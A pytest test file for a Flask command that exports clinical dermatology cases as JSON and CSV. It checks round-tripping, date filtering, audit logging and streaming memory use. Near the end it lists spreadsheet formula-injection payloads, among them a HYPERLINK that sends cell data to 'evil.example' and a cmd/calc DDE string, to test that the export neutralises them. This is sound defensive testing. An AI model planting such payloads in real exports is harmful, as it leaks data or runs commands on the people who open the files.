"""``flask cases export``: both formats parsed back and compared with the database; streaming.

Cases are made through the services (one analysed by the real reference AI and reviewed); the
memory test bulk-inserts its thousands of cases with SQL, which is only about volume.
"""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import uuid
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from flask import Flask
from sqlalchemy import select, text

from app.extensions import db
from app.models import Analysis, AuditEvent, Case, User
from app.services import cases as cases_service
from app.services import diagnosis, exports
from tests.fixtures.cases import MELANOMA

ANSWERS = {"duration": "3-12 months", "changed_recently": True, "color": ["brown", "black"]}


#: Case columns every export record carries as they are in the database.
_CASE_FIELDS = (
    "owner_id",
    "patient_reference",
    "patient_age",
    "patient_sex",
    "body_site",
    "fitzpatrick_type",
    "chief_complaint",
    "status",
    "urgency",
    "anamnesis",
)
_REVIEW_FIELDS = (
    "final_diagnosis",
    "final_icd10",
    "ai_agreement",
    "review_notes",
    "reviewed_by_id",
)


def _export(app: Flask, *args: str) -> Result:
    return app.test_cli_runner().invoke(args=["cases", "export", *args])


@pytest.fixture
def three_cases(
    ai_app: Flask, make_user: Callable[..., Any], make_case: Callable[..., uuid.UUID]
) -> dict[str, uuid.UUID]:
    """An analysed and reviewed case, a case with answers only, and another owner's archived
    case; returns their ids by patient reference."""
    physician = make_user(email="ana@example.org")
    other = make_user(email="ben@example.org")
    analysed = make_case(physician, patient_reference="PT-EXP-1", patient_age=61)
    answered = make_case(
        physician, patient_reference="PT-EXP-2", fitzpatrick_type=None, body_site="face"
    )
    archived = make_case(other, patient_reference="PT-EXP-3", patient_sex="male")
    with ai_app.app_context():
        actor = db.session.get(User, physician.id)
        with MELANOMA.open("rb") as photo:
            diagnosis.diagnose_upload(
                actor=actor, upload=photo, anamnesis=ANSWERS, case_id=analysed
            )
        diagnosis.review_case(
            actor=actor,
            case_id=analysed,
            final_diagnosis="Melanoma",
            icd10="C43.5",
            agreement="top1",
            notes="Excision booked. Ünïcode stays as it is.",
        )
        cases_service.merge_answers(actor=actor, case_id=answered, answers={"pain": False})
        cases_service.archive_case(actor=db.session.get(User, other.id), case_id=archived)
        db.session.remove()
    return {"PT-EXP-1": analysed, "PT-EXP-2": answered, "PT-EXP-3": archived}


def _expected(app: Flask, case_id: uuid.UUID) -> dict[str, Any]:
    """The case and its analyses as the database has them."""
    with app.app_context():
        case = db.session.get(Case, case_id)
        analyses = db.session.scalars(
            select(Analysis).where(Analysis.case_id == case_id).order_by(Analysis.created_at)
        ).all()
        expected = {
            "case": {name: getattr(case, name) for name in (*_CASE_FIELDS, *_REVIEW_FIELDS)},
            "created_at": case.created_at,
            "updated_at": case.updated_at,
            "reviewed_at": case.reviewed_at,
            "analyses": [
                {
                    "id": str(a.id),
                    "image_id": str(a.image_id),
                    "status": a.status,
                    "model_version": a.model_version,
                    "tier": a.tier,
                    "confidence": a.confidence,
                    "predictions": a.predictions,
                    "red_flags": a.red_flags,
                    "urgency": a.urgency,
                    "triage": a.triage,
                    "error_code": a.error_code,
                    "created_at": a.created_at,
                }
                for a in analyses
            ],
        }
        db.session.remove()
    return expected


def _when(text_value: str) -> datetime:
    moment = datetime.fromisoformat(text_value)
    assert moment.utcoffset() == timedelta(0)  # always UTC
    return moment


def _assert_matches(record: dict[str, Any], expected: dict[str, Any]) -> None:
    case = expected["case"]
    for name in _CASE_FIELDS:
        assert record[name] == case[name], name
    assert _when(record["created_at"]) == expected["created_at"]
    assert _when(record["updated_at"]) == expected["updated_at"]
    assert len(record["analyses"]) == len(expected["analyses"])
    for got, want in zip(record["analyses"], expected["analyses"], strict=True):
        assert _when(got.pop("created_at")) == want.pop("created_at")
        assert {name: got[name] for name in want} == want
        assert got["top_diagnosis"] == want["predictions"][0]["disease"]
    if case["final_diagnosis"] is None:
        assert record["review"] is None
    else:
        review = record["review"]
        assert review["final_diagnosis"] == case["final_diagnosis"]
        assert review["icd10"] == case["final_icd10"]
        assert review["agreement"] == case["ai_agreement"]
        assert review["notes"] == case["review_notes"]
        assert review["reviewed_by_id"] == case["reviewed_by_id"]
        assert _when(review["reviewed_at"]) == expected["reviewed_at"]


def test_json_export_parses_back_to_the_cases(
    ai_app: Flask, three_cases: dict[str, uuid.UUID]
) -> None:
    result = _export(ai_app, "--format", "json")
    assert result.exit_code == 0, result.output
    records = json.loads(result.stdout)  # stdout holds only the export; the summary is on stderr
    assert "Exported 3 cases as json to stdout." in result.stderr

    assert [r["patient_reference"] for r in records] == ["PT-EXP-1", "PT-EXP-2", "PT-EXP-3"]
    for record in records:
        case_id = three_cases[record["patient_reference"]]
        assert record["case_id"] == str(case_id)
        _assert_matches(record, _expected(ai_app, case_id))

    analysed = records[0]
    assert analysed["status"] == "reviewed"
    [analysis] = analysed["analyses"]
    assert analysis["status"] == "completed"
    assert analysis["model_version"].startswith("reference-")
    assert analysis["red_flags"]["urgency"] == analysis["urgency"]
    assert analysis["triage"]["priority"]
    assert analysed["review"]["notes"] == "Excision booked. Ünïcode stays as it is."
    assert analysed["anamnesis"]["changed_recently"] is True
    assert records[1]["analyses"] == [] and records[1]["review"] is None
    assert records[2]["status"] == "archived"  # an admin export includes archived cases

    # Pseudonymous: no emails, no storage keys, no image bytes.
    assert "@example.org" not in result.stdout
    assert "cases/" not in result.stdout
    assert "imageData" not in result.stdout


def test_json_layout_is_one_case_per_line(ai_app: Flask, three_cases: dict[str, uuid.UUID]) -> None:
    lines = _export(ai_app).stdout.splitlines()  # json is the default format
    assert lines[0] == "[" and lines[-1] == "]"
    assert len(lines) == 5
    assert [json.loads(line.rstrip(","))["patient_reference"] for line in lines[1:-1]] == [
        "PT-EXP-1",
        "PT-EXP-2",
        "PT-EXP-3",
    ]


def test_csv_export_parses_back_to_the_cases(
    ai_app: Flask, three_cases: dict[str, uuid.UUID]
) -> None:
    result = _export(ai_app, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert list(rows[0]) == list(exports.CSV_COLUMNS)
    assert [row["patient_reference"] for row in rows] == ["PT-EXP-1", "PT-EXP-2", "PT-EXP-3"]

    for row in rows:
        expected = _expected(ai_app, three_cases[row["patient_reference"]])
        case = expected["case"]
        reviewed = case["final_diagnosis"] is not None
        record = {
            **row,
            "owner_id": int(row["owner_id"]),
            "patient_age": int(row["patient_age"]),
            "fitzpatrick_type": row["fitzpatrick_type"] or None,
            "urgency": row["urgency"] or None,
            "anamnesis": json.loads(row["anamnesis"]),
            "analyses": json.loads(row["analyses"]),
            "review": {
                "final_diagnosis": row["review_final_diagnosis"],
                "icd10": row["review_icd10"],
                "agreement": row["review_agreement"],
                "notes": row["review_notes"],
                "reviewed_at": row["review_reviewed_at"],
                "reviewed_by_id": int(row["review_reviewed_by_id"]),
            }
            if reviewed
            else None,
        }
        if not reviewed:
            assert row["review_final_diagnosis"] == row["review_reviewed_at"] == ""
        _assert_matches(record, expected)


def test_since_keeps_cases_created_or_changed_that_day_or_later(
    ai_app: Flask, three_cases: dict[str, uuid.UUID]
) -> None:
    today = datetime.now(UTC).date()
    long_ago = datetime.now(UTC) - timedelta(days=30)
    with ai_app.app_context():  # age two cases; PT-EXP-1 keeps a recent analysis
        db.session.execute(
            text("UPDATE cases SET created_at = :t, updated_at = :t WHERE id IN (:a, :b)"),
            {"t": long_ago, "a": three_cases["PT-EXP-1"], "b": three_cases["PT-EXP-2"]},
        )
        db.session.commit()
        db.session.remove()

    since = (today - timedelta(days=10)).isoformat()
    result = _export(ai_app, "--since", since)
    assert result.exit_code == 0, result.output
    references = [r["patient_reference"] for r in json.loads(result.stdout)]
    # PT-EXP-1 was analysed recently (a change), PT-EXP-3 archived recently; PT-EXP-2 is old.
    assert references == ["PT-EXP-1", "PT-EXP-3"]
    assert f"Exported 2 cases created or changed since {since}" in result.stderr

    future = (today + timedelta(days=1)).isoformat()
    empty = _export(ai_app, "--since", future, "--format", "csv")
    assert empty.exit_code == 0
    assert list(csv.reader(io.StringIO(empty.stdout))) == [list(exports.CSV_COLUMNS)]
    assert json.loads(_export(ai_app, "--since", future).stdout) == []

    bad = _export(ai_app, "--since", "01/12/2026")
    assert bad.exit_code == 2
    assert "'01/12/2026' does not match the format '%Y-%m-%d'" in bad.output


def test_output_writes_a_file_and_audits_the_export(
    ai_app: Flask, three_cases: dict[str, uuid.UUID], tmp_path: Path
) -> None:
    target = tmp_path / "cases.csv"
    result = _export(ai_app, "--format", "CSV", "--output", str(target))
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert f"Exported 3 cases as csv to {target}." in result.stderr
    with target.open(encoding="utf-8", newline="") as exported:
        rows = list(csv.DictReader(exported))
    assert [row["patient_reference"] for row in rows] == ["PT-EXP-1", "PT-EXP-2", "PT-EXP-3"]
    assert list(tmp_path.iterdir()) == [target]  # no temporary file left behind
    assert target.stat().st_mode & 0o077 == 0  # clinical data: readable by its owner only

    with ai_app.app_context():
        event = db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "case.export")
        ).one()
        assert event.actor_id is None
        assert event.details == {
            "format": "csv",
            "purpose": "records",
            "since": None,
            "cases": 3,
            "completed": True,
        }
        db.session.remove()


def test_output_into_a_missing_folder_fails_cleanly(app: Flask, tmp_path: Path) -> None:
    result = _export(app, "--output", str(tmp_path / "nope" / "cases.json"))
    assert result.exit_code == 1
    assert "does not exist; nothing was exported" in result.output


# --- streaming ---------------------------------------------------------------------------------

PREDICTIONS = json.dumps(
    [
        {"disease": "Melanoma", "probability": 0.61, "confidence": "medium", "icd10": "C43.9"},
        {"disease": "Melanocytic nevus", "probability": 0.2, "confidence": "low"},
    ]
)
RED_FLAGS = json.dumps({"hasRedFlags": True, "flags": [], "urgency": "high", "recommendation": "x"})
ANAMNESIS = json.dumps({"duration": "3-12 months", "color": ["brown", "black"], "pain": False})


def _bulk_insert(app: Flask, owner_id: int, count: int, start: int) -> None:
    """Insert ``count`` cases, each with one completed analysis, in two SQL statements."""
    with app.app_context():
        db.session.execute(
            text(
                """
                INSERT INTO cases (id, owner_id, patient_reference, patient_age, patient_sex,
                                   body_site, chief_complaint, anamnesis, status, urgency,
                                   created_at, updated_at)
                SELECT gen_random_uuid(), :owner, 'BULK-' || n, 40 + n % 50, 'female', 'back',
                       'Changing pigmented lesion number ' || n, CAST(:anamnesis AS jsonb),
                       'analyzed', 'high', now(), now()
                FROM generate_series(CAST(:start AS integer), CAST(:stop AS integer)) AS n
                """
            ),
            {"owner": owner_id, "anamnesis": ANAMNESIS, "start": start, "stop": start + count - 1},
        )
        db.session.execute(
            text(
                """
                INSERT INTO analyses (id, case_id, status, model_version, accepted_low_quality,
                                      predictions, tier, confidence, red_flags, urgency, created_at)
                SELECT gen_random_uuid(), c.id, 'completed', 'bulk-1', false,
                       CAST(:predictions AS jsonb), 'possible', 0.61, CAST(:flags AS jsonb),
                       'high', now()
                FROM cases c LEFT JOIN analyses a ON a.case_id = c.id
                WHERE a.id IS NULL
                """
            ),
            {"predictions": PREDICTIONS, "flags": RED_FLAGS},
        )
        db.session.commit()
        db.session.remove()


class _Sink(io.TextIOBase):
    """A text stream that keeps nothing but the number of characters written."""

    def __init__(self) -> None:
        self.written = 0

    def writable(self) -> bool:
        return True

    def write(self, data: str) -> int:
        self.written += len(data)
        return len(data)


def _peak_bytes(app: Flask, *, fmt: str, batch_size: int) -> tuple[int, int, int]:
    """Export into a sink under tracemalloc; return (cases, characters written, peak bytes)."""
    with app.app_context():
        sink = _Sink()
        tracemalloc.start()
        try:
            count = exports.export_cases(sink, fmt=fmt, batch_size=batch_size)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        db.session.remove()
    return count, sink.written, peak


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_export_memory_does_not_grow_with_the_number_of_cases(
    app: Flask, make_user: Callable[..., Any], fmt: str
) -> None:
    owner = make_user()
    batch = 50

    def measured() -> tuple[int, int, int]:
        # A first run pays one-time costs (statement caches; psycopg prepares a query once it
        # has run five times, which only a large export reaches): measure the runs after it.
        # tracemalloc counts every thread's allocations, so a thread another test left running
        # (a test server, an abandoned AI call) can raise one run's peak: take the lowest of 3.
        _peak_bytes(app, fmt=fmt, batch_size=batch)
        runs = [_peak_bytes(app, fmt=fmt, batch_size=batch) for _ in range(3)]
        return min(runs, key=lambda run: run[2])

    _bulk_insert(app, owner.id, 200, start=1)
    small_count, small_written, small_peak = measured()
    _bulk_insert(app, owner.id, 1800, start=201)
    large_count, large_written, large_peak = measured()

    assert (small_count, large_count) == (200, 2000)
    assert large_written > 9 * small_written  # ten times the data went through ...
    # ... with the same peak (holding every case would make it ~10x): bounded by the batch.
    assert large_peak < 1.5 * small_peak, (small_peak, large_peak)
    assert large_peak < large_written / 3, (large_peak, large_written)


def test_records_are_yielded_lazily_without_orm_objects(
    app: Flask, make_user: Callable[..., Any]
) -> None:
    owner = make_user()
    _bulk_insert(app, owner.id, 250, start=1)
    with app.app_context():
        records = exports.iter_case_records(batch_size=50)
        first = next(records)
        assert first["patient_reference"].startswith("BULK-")
        assert len(db.session.identity_map) == 0  # plain rows: nothing accumulates in the session
        rest = sum(1 for _ in records)
        assert rest == 249
        assert len(db.session.identity_map) == 0
        db.session.remove()


def test_since_start_is_midnight_utc() -> None:
    assert exports.since_start(date(2026, 12, 1)) == datetime(2026, 12, 1, tzinfo=UTC)


def test_a_newer_photo_marks_the_analysis_outdated_as_the_api_does(
    ai_app: Flask, ai_client: Any, make_user: Callable[..., Any], api_headers: Any
) -> None:
    from tests.test_api_diagnosis import diagnose
    from tests.test_clinical_record_signed import NEVUS

    headers = api_headers(make_user())
    case_id = diagnose(ai_client, headers).get_json()["case_id"]
    newer = ai_client.post(
        f"/api/cases/{case_id}/images",
        data={"image": (io.BytesIO(NEVUS.read_bytes()), "n.jpg", "image/jpeg")},
        headers=headers,
        content_type="multipart/form-data",
    )
    assert newer.status_code == 201, newer.get_json()
    analysis = ai_client.get(f"/api/cases/{case_id}", headers=headers).get_json()["latest_analysis"]
    assert analysis["outdated"] is True and analysis["outdated_fields"] == ["image"]

    [record] = json.loads(_export(ai_app, "--format", "json").stdout)
    [exported] = record["analyses"]
    assert (exported["outdated"], exported["outdated_fields"]) == (True, ["image"])
    [row] = list(csv.DictReader(io.StringIO(_export(ai_app, "--format", "csv").stdout)))
    [exported] = json.loads(row["analyses"])
    assert (exported["outdated"], exported["outdated_fields"]) == (True, ["image"])


#: Cells a spreadsheet would run as a formula (OWASP "CSV Injection"): = + - @, tab, CR.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
)


def test_csv_cells_that_would_start_a_formula_are_neutralised(
    ai_app: Flask,
    ai_client: Any,
    make_user: Callable[..., Any],
    make_case: Callable[..., uuid.UUID],
    api_headers: Any,
) -> None:
    from tests.test_api_diagnosis import diagnose

    user = make_user()
    headers = api_headers(user)
    references = []
    for number, formula in enumerate(FORMULAS):
        case_id = make_case(
            user, chief_complaint=f"{formula} itch", patient_reference=f"PT-F{number}"
        )
        assert diagnose(ai_client, headers, case_id=case_id).status_code == 200
        review = {"final_diagnosis": formula, "agreement": "differs", "notes": formula}
        response = ai_client.post(f"/api/cases/{case_id}/review", json=review, headers=headers)
        assert response.status_code == 200, response.get_json()
        references.append(f"PT-F{number}")
    result = _export(ai_app, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert [row["patient_reference"] for row in rows] == references
    for row in rows:
        for column in exports.CSV_COLUMNS:
            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
    # Neutralised by a leading apostrophe (shown by spreadsheets as text), otherwise unchanged;
    # the stored record and the JSON export keep the text as typed.
    for row, formula in zip(rows, FORMULAS, strict=True):
        assert row["chief_complaint"] == f"'{formula} itch"
        assert row["review_final_diagnosis"] == f"'{formula}"
    records = json.loads(_export(ai_app, "--format", "json").stdout)
    assert records[0]["review"]["final_diagnosis"] == FORMULAS[0]
    # A leading tab or carriage return (the services strip them from these fields, but not
    # every column is stripped) is neutralised too; numbers are data, kept as they are.
    cells = exports.csv_row(
        {**records[0], "patient_reference": "\t=1+1", "body_site": "\r=1+1", "patient_age": -1}
    )
    columns = dict(zip(exports.CSV_COLUMNS, cells, strict=True))
    assert columns["patient_reference"] == "'\t=1+1"
    assert columns["body_site"] == "'\r=1+1"
    assert columns["patient_age"] == -1
